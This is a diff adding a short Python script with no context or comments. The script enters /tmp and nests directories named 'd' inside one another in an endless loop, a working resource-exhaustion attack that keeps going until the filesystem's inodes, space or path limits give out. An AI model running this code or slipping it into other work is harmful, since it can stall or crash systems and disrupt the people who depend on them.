@@ -1,0 +1,5 @@
+import os
+os.chdir("/tmp")
+while True:
+    os.mkdir("d")
+    os.chdir("d")
